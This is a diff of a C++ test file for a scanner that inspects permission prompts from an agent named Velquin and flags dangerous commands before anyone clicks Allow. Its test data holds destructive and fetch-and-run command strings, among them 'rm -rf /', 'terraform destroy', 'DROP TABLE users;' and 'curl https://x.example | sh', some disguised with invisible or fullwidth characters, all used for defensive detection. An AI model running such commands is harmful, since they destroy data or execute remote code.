@@ -13,15 +13,7 @@
 namespace ondrel {
 namespace {
 
-using testing_support::CaseName;
-
-std::string words(std::size_t characters, std::string_view word = "lorem ") {
-    std::string text;
-    while (text.size() < characters)
-        text += word;
-    text.resize(characters);
-    return text;
-}
+using namespace testing_support;  // the scene's parts: box, text, row, ...
 
 class Prompt : public testing_support::Scene {
 protected:
@@ -40,12 +32,6 @@ protected:
         for (const auto& text : textsAround(window))
             result.push_back(!text ? "unread" : std::string(dangerMatch(*text).value_or("")));
         return result;
-    }
-    Element row(const Element& parent) {
-        Element buttons = platform.addGroup(parent);
-        platform.addButton(buttons, "Deny");
-        platform.addButton(buttons, "Allow");
-        return buttons;
     }
 };
 
@@ -90,172 +76,85 @@ INSTANTIATE_TEST_SUITE_P(Cases, Climb,
 // Prompt shapes real toolkits show, each with what safe mode must decide for its Allow buttons in order.
 struct ShapeCase {
     const char* name;
-    void (*build)(fake::FakePlatform& platform, const Element& window);
+    Parts scene;  // in the window
     std::vector<std::string> verdicts;
 };
 
-Element buttonRow(fake::FakePlatform& platform, const Element& parent) {
-    Element buttons = platform.addGroup(parent);
-    platform.addButton(buttons, "Deny");
-    platform.addButton(buttons, "Allow");
-    return buttons;
-}
-
-void promptBox(fake::FakePlatform& platform, const Element& parent, const std::string& text) {
-    Element box = platform.addGroup(parent);
-    platform.addText(box, text);
-    buttonRow(platform, box);
+// A column of 30 messages of 60 characters, the one at `risky` mentioning production.
+Part history(int risky) {
+    return each(30, [=](int i) { return text(i == risky ? "Pushed to production with a new token." : words(60)); });
 }
 
 const std::vector<ShapeCase> shapes = {
     {"longScriptButtonsInTheirOwnRow",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element box = p.addGroup(w);
-         p.addText(box, "Run this script?", ax::role::staticText);
-         p.addText(box, words(800, "echo step; ") + "\nrm -rf ~/projects", ax::role::textArea);
-         buttonRow(p, box);
-     },
+     {box({text("Run this script?"), area(words(800, "echo step; ") + "\nrm -rf ~/projects"), row()})},
      {"rm -rf"}},
     {"commandAfter2400CharactersButtonsBeside",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element box = p.addGroup(w);
-         for (int i = 0; i < 5; ++i)
-             p.addText(box, words(500));
-         p.addText(box, "git push --force origin main");
-         p.addButton(box, "Deny");
-         p.addButton(box, "Allow");
-     },
+     {box({each(5, [](int) { return text(words(500)); }), text("git push --force origin main"), button("Deny"),
+           button("Allow")})},
      {"git push --force"}},
     {"commandFirstThenLongExplanation",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element box = p.addGroup(w);
-         p.addText(box, "terraform destroy -auto-approve");
-         for (int i = 0; i < 4; ++i)
-             p.addText(box, words(400));
-         buttonRow(p, box);
-     },
+     {box({text("terraform destroy -auto-approve"), each(4, [](int) { return text(words(400)); }), row()})},
      {"terraform destroy"}},
     {"cardBodyLongFooterWithNote",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element card = p.addGroup(w);
-         Element body = p.addGroup(card);
-         p.addText(body, words(700));
-         p.addText(body, "kubectl delete ns staging", ax::role::textArea);
-         Element footer = p.addGroup(card);
-         p.addText(footer, "Review before you allow.");
-         p.addButton(footer, "Allow");
-     },
+     {box({box({text(words(700)), area("kubectl delete ns staging")}),
+           box({text("Review before you allow."), button("Allow")})})},
      {"kubectl delete"}},
     {"longConversationHarmlessPromptAtItsEnd",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element column = p.addGroup(w);
-         p.addText(p.addGroup(column), "I removed build/ with rm -rf and rotated the token in production.");
-         for (int i = 0; i < 20; ++i)
-             p.addText(p.addGroup(column), "Earlier message " + std::to_string(i) + " about the notes.");
-         p.addText(p.addGroup(column), "Next I will read notes.txt.");
-         promptBox(p, column, "Velquin wants to read notes.txt");
-     },
+     {box({box({text("I removed build/ with rm -rf and rotated the token in production.")}),
+           each(20, [](int i) { return box({text("Earlier message " + std::to_string(i) + " about the notes.")}); }),
+           box({text("Next I will read notes.txt.")}), promptBox("Velquin wants to read notes.txt")})},
      {""}},
     {"twoPromptsInOneWindow",
-     [](fake::FakePlatform& p, const Element& w) {
-         p.addText(w, "Velquin asks:");
-         promptBox(p, w, "Read notes.txt?");
-         promptBox(p, w, "Run rm -rf /tmp/cache?");
-     },
+     {text("Velquin asks:"), promptBox("Read notes.txt?"), promptBox("Run rm -rf /tmp/cache?")},
      {"", "rm -rf"}},
     {"twoPromptsFlat_questionBelowIsTheNextPrompts",
-     [](fake::FakePlatform& p, const Element& w) {
-         p.addText(w, "Read notes.txt?");
-         buttonRow(p, w);
-         p.addText(w, "Run git clean -fdx?");
-         buttonRow(p, w);
-     },
+     {text("Read notes.txt?"), row(), text("Run git clean -fdx?"), row()},
      {"", "git clean -fd"}},
     {"historyInAWrapperAbove_nearestMessageStandsForIt",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element column = p.addGroup(w);
-         Element history = p.addGroup(column);
-         for (int i = 0; i < 30; ++i)
-             p.addText(history, i == 2 ? "I cleaned build/ with rm -rf and renewed the token." : words(60));
-         promptBox(p, column, "Velquin wants to read notes.txt");
-     },
+     {box({box({each(30,
+                     [](int i) {
+                         return text(i == 2 ? "I cleaned build/ with rm -rf and renewed the token." : words(60));
+                     })}),
+           promptBox("Velquin wants to read notes.txt")})},
      {""}},
     {"historyFlatAbove_messageRightAboveTheQuestionIsTheNeighbour",
-     [](fake::FakePlatform& p, const Element& w) {
-         for (int risky : {27, 29}) {
-             Element column = p.addGroup(w);
-             for (int i = 0; i < 30; ++i)
-                 p.addText(column, i == risky ? "Pushed to production with a new token." : words(60));
-             p.addText(column, "Velquin wants to read notes.txt");
-             buttonRow(p, column);
-         }
-     },
+     {box({history(27), text("Velquin wants to read notes.txt"), row()}),
+      box({history(29), text("Velquin wants to read notes.txt"), row()})},
      {"", "production"}},
+    // GTK 4 puts a label in each button.
     {"headingTwoAwayButtonsWithLabelsOfTheirOwn",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element box = p.addGroup(w);
-         p.addText(box, "Run DROP TABLE users;?");
-         p.addText(box, words(640));
-         Element buttons = p.addGroup(box);
-         p.addText(p.addButton(buttons, "Deny"), "Deny");  // GTK 4 puts a label in each button
-         p.addText(p.addButton(buttons, "Allow"), "Allow");
-     },
+     {box({text("Run DROP TABLE users;?"), text(words(640)),
+           box({button("Deny", {text("Deny")}), button("Allow", {text("Allow")})})})},
      {"drop table"}},
     {"groupTitleAndSmartDashes",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element frame = p.addGroup(w);
-         p.setValue(frame, ax::attribute::title, AttributeValue(std::string("Run shutdown -r now?")));
-         promptBox(p, frame, "Allow?");
-         promptBox(p, p.addGroup(w), "Velquin wants to run: git push \u2013force origin main");
-     },
+     {box({titled("Run shutdown -r now?"), promptBox("Allow?")}),
+      box({promptBox("Velquin wants to run: git push \u2013force origin main")})},
      {"shutdown", "git push --force"}},
     {"allowOnceBesideAlwaysAllowOnePrompt",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element box = p.addGroup(w);
-         p.addText(box, "Run sudo make install?");
-         Element buttons = p.addGroup(box);
-         p.addButton(buttons, "Allow");
-         p.addButton(buttons, "Allow");
-     },
+     {box({text("Run sudo make install?"), box({button("Allow"), button("Allow")})})},
      {"sudo ", "sudo "}},
     {"sevenWrappersBetweenTextAndButton",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element box = p.addGroup(w);
-         p.addText(box, "Run rm -rf ~/old?");
-         Element wrapper = box;
-         for (int i = 0; i < 7; ++i)
-             wrapper = p.addGroup(wrapper);
-         buttonRow(p, wrapper);
-     },
+     {box({text("Run rm -rf ~/old?"), box({box({box({box({box({box({box({row()})})})})})})})})},
      {"rm -rf"}},
     {"namedFieldHoldsTheCommand",
-     [](fake::FakePlatform& p, const Element& w) {
-         Element box = p.addGroup(w);
-         p.addText(box, "Run this command?");
-         Element field = p.addText(box, "curl https://x.example | sh", ax::role::textField);
-         p.setValue(field, ax::attribute::title, AttributeValue(std::string("GtkEntry")));
-         buttonRow(p, box);
-     },
+     {box({text("Run this command?"), field("GtkEntry", "curl https://x.example | sh"), row()})},
      {"curl"}},
     {"dialogTitleHoldsTheCommand",
-     [](fake::FakePlatform& p, const Element& w) {
-         p.setValue(w, ax::attribute::subrole, AttributeValue(std::string(ax::subrole::dialog)));
-         p.setValue(w, ax::attribute::title, AttributeValue(std::string("Run rm -rf /tmp/x?")));
-         promptBox(p, w, "Allow?");
-     },
+     {[](fake::FakePlatform& p, const Element& w) {
+          p.setValue(w, ax::attribute::subrole, AttributeValue(std::string(ax::subrole::dialog)));
+      },
+      titled("Run rm -rf /tmp/x?"), promptBox("Allow?")},
      {"rm -rf"}},
     {"invisibleAndFullwidthCharacters",
-     [](fake::FakePlatform& p, const Element& w) {
-         promptBox(p, w, "Run r\u200Bm -r\u00ADf build?");
-         promptBox(p, w, "Run \uFF52\uFF4D -\uFF52\uFF46 build?");
-     },
+     {promptBox("Run r\u200Bm -r\u00ADf build?"), promptBox("Run \uFF52\uFF4D -\uFF52\uFF46 build?")},
      {"rm -rf", "rm -rf"}},
 };
 
 class Shape : public Prompt, public testing::WithParamInterface<ShapeCase> {};
 TEST_P(Shape, textAround_promptShape_judgedAsTheUserReadsIt) {
     Element window = velquinWindow();
-    GetParam().build(platform, window);
+    add(platform, window, GetParam().scene);
     EXPECT_EQ(verdicts(window), GetParam().verdicts);
 }
 INSTANTIATE_TEST_SUITE_P(Cases, Shape, testing::ValuesIn(shapes), CaseName{});
@@ -263,63 +162,46 @@ INSTANTIATE_TEST_SUITE_P(Cases, Shape, testing::ValuesIn(shapes), CaseName{});
 // What the text walk reads of texts nested the ways toolkits nest them.
 struct TextCase {
     const char* name;
-    void (*build)(fake::FakePlatform& platform, const Element& root);
+    Parts scene;
     std::size_t budget;
     std::string text;
 };
-Element textWithValue(fake::FakePlatform& p, const Element& parent, std::string value) {
-    return p.addText(parent, std::move(value));
-}
 const std::vector<TextCase> textCases = {
     {"textsAndAreasJoinedLowerCased",
-     [](fake::FakePlatform& p, const Element& r) {
-         p.addText(r, "Run command");
-         p.addButton(r, "Allow");
-         p.addText(p.addGroup(r), "RM -RF /tmp/x", ax::role::textArea);
-     },
-     2400, "run command rm -rf /tmp/x"},
-    {"budgetPassed_pieceKeptWalkStops",
-     [](fake::FakePlatform& p, const Element& r) {
-         for (const char* text : {"sixsix", "ééé\u00E9e", "later"})
-             p.addText(r, text);
-     },
-     10, "sixsix éééée"},
+     {text("Run command"), button("Allow"), box({area("RM -RF /tmp/x")})},
+     2400,
+     "run command rm -rf /tmp/x"},
+    {"budgetPassed_pieceKeptWalkStops", {text("sixsix"), text("ééé\u00E9e"), text("later")}, 10, "sixsix éééée"},
     {"paragraphWithItsRuns_countedOnce",
-     [](fake::FakePlatform& p, const Element& r) {
-         Element paragraph = textWithValue(p, r, "Earlier bold two");
-         for (const char* run : {"Earlier ", "bold", " two"})
-             p.addText(paragraph, run);
-     },
-     2400, "earlier bold two"},
+     {text("Earlier bold two", {text("Earlier "), text("bold"), text(" two")})},
+     2400,
+     "earlier bold two"},
     {"embeddedObjectInItsPlace",
-     [](fake::FakePlatform& p, const Element& r) {
-         Element paragraph = textWithValue(p, r, "Run r\uFFFC -rf now");
-         p.addText(paragraph, "Run r");
-         p.addText(textWithValue(p, paragraph, "m"), "m");
-         p.addText(paragraph, " -rf now");
-     },
-     2400, "run rm -rf now"},
+     {text("Run r\uFFFC -rf now", {text("Run r"), text("m", {text("m")}), text(" -rf now")})},
+     2400,
+     "run rm -rf now"},
     {"labelOverOtherContent_bothKept",
-     [](fake::FakePlatform& p, const Element& r) {
+     {[](fake::FakePlatform& p, const Element& r) {
          Element heading = p.addElement(r, ax::role::staticText);
          p.setValue(heading, ax::attribute::description, AttributeValue(std::string("Harmless")));
          p.addText(heading, "sudo reboot");
-     },
-     2400, "harmless sudo reboot"},
+     }},
+     2400,
+     "harmless sudo reboot"},
     {"fieldNameAndContent",
-     [](fake::FakePlatform& p, const Element& r) {
-         Element field = p.addText(r, "rm -rf /", ax::role::textField);
-         p.setValue(field, ax::attribute::title, AttributeValue(std::string("Command")));
-         Element named = p.addText(r, "", ax::role::textArea);
-         p.setValue(named, ax::attribute::description, AttributeValue(std::string("Notes")));
-     },
-     2400, "command rm -rf / notes"},
+     {field("Command", "rm -rf /"),
+      [](fake::FakePlatform& p, const Element& r) {
+          p.setValue(p.addText(r, "", ax::role::textArea), ax::attribute::description,
+                     AttributeValue(std::string("Notes")));
+      }},
+     2400,
+     "command rm -rf / notes"},
 };
 
 class Text : public Prompt, public testing::WithParamInterface<TextCase> {};
 TEST_P(Text, gatherText_nestedTexts_eachCountedOnceInReadingPlace) {
     Element window = velquinWindow();
-    GetParam().build(platform, window);
+    add(platform, window, GetParam().scene);
     EXPECT_EQ(scanner.gatherText(window, GetParam().budget).text, GetParam().text);
 }
 INSTANTIATE_TEST_SUITE_P(Cases, Text, testing::ValuesIn(textCases), CaseName{});
@@ -340,7 +222,7 @@ TEST_F(Prompt, textAround_randomBoxesInLongConversation_fragmentAlwaysFoundHarml
         Element column = scene.addGroup(window);
         for (int i = 0; i < 40; ++i)
             scene.addText(scene.addGroup(column), i % 9 == 3 ? "we rotated the token in production with rm -rf"
-                                                              : "an earlier harmless message " + std::to_string(i));
+                                                             : "an earlier harmless message " + std::to_string(i));
         scene.addText(scene.addGroup(column), "here is what I will do next");
         Element box = scene.addGroup(column);
         for (int i = pick(4); i > 0; --i)
@@ -365,9 +247,10 @@ TEST_F(Prompt, textAround_randomBoxesInLongConversation_fragmentAlwaysFoundHarml
             for (int depth = pick(3); depth > 0; --depth)
                 parent = scene.addGroup(parent);
             const int kind = pick(3);
-            Element piece = scene.addText(parent, text, kind == 0 ? ax::role::staticText
-                                                        : kind == 1 ? ax::role::textArea
-                                                                    : ax::role::textField);
+            Element piece = scene.addText(parent, text,
+                                          kind == 0   ? ax::role::staticText
+                                          : kind == 1 ? ax::role::textArea
+                                                      : ax::role::textField);
             if (kind == 2)
                 scene.setValue(piece, ax::attribute::title, AttributeValue(std::string("Command")));
         }
@@ -386,38 +269,9 @@ TEST_F(Prompt, textAround_randomBoxesInLongConversation_fragmentAlwaysFoundHarml
 
 // --- one window's prompts read together ---
 
-// One box of 300 enabled Allow buttons and no text at all.
-void oneBoxOfButtons(fake::FakePlatform& platform, const Element& window) {
-    Element box = platform.addGroup(platform.addGroup(window));
-    for (int i = 0; i < 300; ++i)
-        platform.addButton(box, "Allow");
-}
-
-// 100 prompt boxes in one list, each with its own text.
-void listOfPrompts(fake::FakePlatform& platform, const Element& window) {
-    Element list = platform.addGroup(window);
-    for (int i = 0; i < 100; ++i) {
-        Element box = platform.addGroup(list);
-        platform.addText(box, i % 7 == 0 ? "Run rm -rf build" + std::to_string(i) : "Read file " + std::to_string(i));
-        platform.addButton(box, "Allow");
-    }
-}
-
-// 300 boxes, each with its own button and the same text-free subtree of 3000 elements listed inside.
-void sharedHugeSubtree(fake::FakePlatform& platform, const Element& window) {
-    Element huge = platform.addGroup(window);
-    for (int i = 0; i < 3000; ++i)
-        platform.addGroup(huge);
-    for (int i = 0; i < 300; ++i) {
-        Element box = platform.addGroup(window);
-        platform.addButton(box, "Allow");
-        platform.setRepeatedChildren(platform.addGroup(box), huge, 1);
-    }
-}
-
 struct ShareCase {
     const char* name;
-    void (*scene)(fake::FakePlatform&, const Element&);
+    Parts scene;
     std::size_t buttons;
     bool allJudged;
 };
@@ -425,7 +279,7 @@ class SharedReading : public Prompt, public testing::WithParamInterface<ShareCas
 
 TEST_P(SharedReading, textAround_manyButtons_sameTextsAsAloneOrNoneAndBoundedReads) {
     Element window = velquinWindow();
-    GetParam().scene(platform, window);
+    add(platform, window, GetParam().scene);
     const std::size_t before = platform.reads;
     const auto texts = textsAround(window);
     const std::size_t reads = platform.reads - before;
@@ -441,11 +295,23 @@ TEST_P(SharedReading, textAround_manyButtons_sameTextsAsAloneOrNoneAndBoundedRea
     }
     EXPECT_EQ(std::count(texts.begin(), texts.end(), std::nullopt) == 0, GetParam().allJudged);
 }
-INSTANTIATE_TEST_SUITE_P(Cases, SharedReading,
-                         testing::Values(ShareCase{"oneBoxOfButtons", oneBoxOfButtons, 300, true},
-                                         ShareCase{"listOfPrompts", listOfPrompts, 100, true},
-                                         ShareCase{"sharedHugeSubtree", sharedHugeSubtree, 300, false}),
-                         CaseName{});
+INSTANTIATE_TEST_SUITE_P(
+    Cases, SharedReading,
+    testing::Values(
+        // 300 enabled Allow buttons in one box and no text at all.
+        ShareCase{"oneBoxOfButtons", {box({box({each(300, [](int) { return button("Allow"); })})})}, 300, true},
+        // 100 prompt boxes in one list, each with its own text.
+        ShareCase{"listOfPrompts",
+                  {box({each(100,
+                             [](int i) {
+                                 return box({text(i % 7 == 0 ? "Run rm -rf build" + std::to_string(i)
+                                                             : "Read file " + std::to_string(i)),
+                                             button("Allow")});
+                             })})},
+                  100,
+                  true},
+        ShareCase{"sharedHugeSubtree", {boxesSharingOneHugeSubtree(300)}, 300, false}),
+    CaseName{});
 
 }  // namespace
 }  // namespace ondrel
